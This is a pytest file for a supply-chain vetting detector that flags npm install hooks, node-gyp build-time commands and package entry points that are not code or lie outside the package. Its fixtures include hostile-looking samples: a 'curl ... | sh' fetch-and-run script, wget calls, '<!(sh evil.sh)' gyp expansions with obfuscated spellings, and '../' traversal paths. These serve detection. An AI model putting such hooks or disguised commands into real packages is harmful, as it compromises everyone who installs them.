"""H3 for npm: scripts that run while installing, and builds that run commands."""

import json

import pytest

from tests.vetting.domain.signals.looking import brief, found
from vetting.domain.signals.hooks.installing import InstallHook
from vetting.domain.signals.interface import digest_of

H3 = InstallHook()
USUAL = b"""{'targets': [{'include_dirs': ["<!@(node -p \\"require('node-addon-api').include\\")"],
 'dependencies': ["<!(node -p \\"require('node-addon-api').gyp\\")", "<!(node -e \\"require('nan')\\")"]}]}"""
EVIL = "Building this runs a command to fill in a value, and npm builds it when this is installed."


@pytest.mark.parametrize(
    ("new", "old", "expected"),
    [
        (b'{"scripts":\n {"postinstall": "node demo.js"}}', b"{}", [("high", "delta", 2, 3)]),
        (b'{"scripts": {"preinstall": "one"}}', None, [("high", "delta", 1, 14)]),
        (b'{"scripts": {"pre\\u0069nstall": "one"}}', None, [("high", "delta", 1, 1)]),
        (b'{"scripts": {"install": "one"}}', b"{broken", [("high", "delta", 1, 14)]),
        (b'{"scripts": {"install": "one"}}', b'{"scripts": {"install": "two"}}', [("medium", "delta", 1, 14)]),
        (b'{"scripts": {"install": "one"}, "x": 1}', b'{"scripts": {"install":"one"}}', [("medium", "context", 1, 14)]),
        (b'{"scripts": {"test": "node test.js", "prepare": "tsc"}}', None, []),
        (b"[]", None, []),
        (b'{"scripts": []}', None, []),
    ],
)
def test_a_new_script_is_high_and_a_changed_one_medium(
    new: bytes, old: bytes | None, expected: list[tuple[str, str, int, int]]
) -> None:
    """What npm runs while installing; what it runs at other times is no hook."""
    assert brief(found(H3, "package.json", new, old)) == expected


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ({"b": "tsc"}, {"b": "tsc -p ."}, ("medium", "delta")),
        ({"b": "tsc"}, {"b": "tsc", "preb": "node a.js"}, ("medium", "delta")),
        ({"b": "tsc"}, {"b": "tsc && npm run c", "c": "node a.js"}, ("medium", "delta")),
        ({"b": "tsc"}, {"b": "node -e 'f()'"}, ("high", "delta")),
        ({"b": "npm run c b"}, {"b": "npm run c b", "c": "curl -s https://example.invalid | sh"}, ("high", "delta")),
        ({"b": "npm run c"}, {"b": "npm run c", "d": "curl https://example.invalid"}, ("medium", "context")),
        ({"b": "node -e 'f()'"}, {"b": "node -e 'f()'", "x": "other"}, ("medium", "context")),
        ({"b": "run-s c:*"}, {"b": "run-s c:*", "c:one": "wget https://example.invalid"}, ("high", "delta")),
        ({"b": "tsc"}, {"b": ["tsc"]}, ("medium", "delta")),
    ],
)
def test_a_script_that_a_hook_runs_by_its_name_is_part_of_it(
    old: dict[str, object], new: dict[str, object], expected: tuple[str, str]
) -> None:
    """With what npm runs before and after it; one that fetches or is code by itself is as bad as a new hook."""
    hook = {"postinstall": "npm run b"}
    sides = [json.dumps({"scripts": hook | side}).encode() for side in (new, old)]
    (finding,) = found(H3, "package.json", *sides)
    assert (finding.severity.value, finding.scope.value) == expected


def test_a_hook_that_fetches_now_is_as_bad_as_a_new_one() -> None:
    """What it ran before was read; this was not, and says what it does."""
    sides = [json.dumps({"scripts": {"install": one}}).encode() for one in ("node -r ./a.js b.js", "node b.js")]
    assert brief(found(H3, "package.json", *sides)) == [("high", "delta", 1, 14)]


@pytest.mark.parametrize(
    ("path", "data", "expected"),
    [
        ("binding.gyp", b"{}", [("medium", 1)]),
        ("binding.gyp", USUAL, [("medium", 1)]),
        ("binding.gyp", b"{\n'a': '<!(node evil.js)'}", [("high", 2), ("medium", 1)]),
        ("binding.gyp", b"{'a': '<!' '@(sh evil.sh)'}", [("high", 1), ("medium", 1)]),
        ("binding.gyp", b"{'a': '\\x3c!(sh evil.sh)'}", [("high", 1), ("medium", 1)]),
        ("binding.gyp", b"{'a': '<!(node -p \"require(\\'nan\\')\") <!(sh)'}", [("high", 1), ("medium", 1)]),
        ("binding.gyp", b"{'a': '<!(sh evil.sh)'", [("high", 1), ("medium", 1)]),
        ("common.gypi", b"{'a': '<!(sh evil.sh)'}", [("high", 1)]),
        ("deep/other.GYP", b"{'a': 1}", []),
        ("demo.js", b"'<!(sh evil.sh)'", []),
    ],
)
def test_a_build_that_runs_commands_is_high(path: str, data: bytes, expected: list[tuple[str, int]]) -> None:
    """However the command is spelled; the ways in which two libraries say where they are are usual."""
    findings = found(H3, path, data)
    assert [(one.severity.value, one.line) for one in findings] == expected
    assert {one.message for one in findings if one.severity.value == "high"} <= {EVIL}


def test_a_command_that_was_there_before_is_context() -> None:
    """The build changed, what it runs to fill in values did not."""
    old = b"{'a': '<!(sh usual.sh)'}"
    findings = found(H3, "binding.gyp", old + b" # more", old)
    assert brief(findings) == [("high", "context", 1, 8), ("medium", "delta", 1, 1)]


def test_the_evidence_is_the_value() -> None:
    """The same value, however it is laid out, is the same evidence."""
    (one,) = found(H3, "package.json", b'{"scripts": {"install": "demo"}}')
    (other,) = found(H3, "package.json", b'{"scripts" :\n{"install":"demo"}}')
    assert one.digest == other.digest == digest_of(b'["install", "demo"]')


@pytest.mark.parametrize(
    ("document", "number"),
    [
        ({"main": "lib/data.dat"}, 1),
        ({"bin": "a.txt"}, 1),
        ({"main": "a.log", "bin": {"x": "b.bin", "y": "c.js"}}, 2),
        ({"main": "index", "bin": {"x": 1}}, 0),
        ({"main": ["a.txt"]}, 0),
        ({"exports": "./a.dat"}, 1),
        ({"exports": {".": {"import": "./a.mjs", "require": ["./a.txt"]}, "./b": "./b.png"}}, 1),
        ({"exports": {"node": {"default": "./a.log"}}}, 1),
        ({"exports": {"./styles": "./b.html"}, "main": "lib"}, 0),
        ({"main": "../express/index.js"}, 1),
        ({"main": "./lib/../../../express"}, 1),
        ({"bin": {"x": "..\\..\\a.js"}}, 1),
        ({"bin": ["../../../usr/bin/x", "a.js", 3]}, 1),
        ({"main": "lib/../index.js", "bin": "./..x/a.js"}, 0),
        ([], 0),
    ],
)
def test_an_entry_that_is_not_called_code_is_found(document: object, number: int) -> None:
    """Node runs it as JavaScript all the same, and what lies in another package's folder."""
    findings = found(InstallHook(), "package.json", json.dumps(document).encode(), b"{}")
    assert brief(findings) == [("medium", "delta", 1, findings[place].column) for place in range(number)]
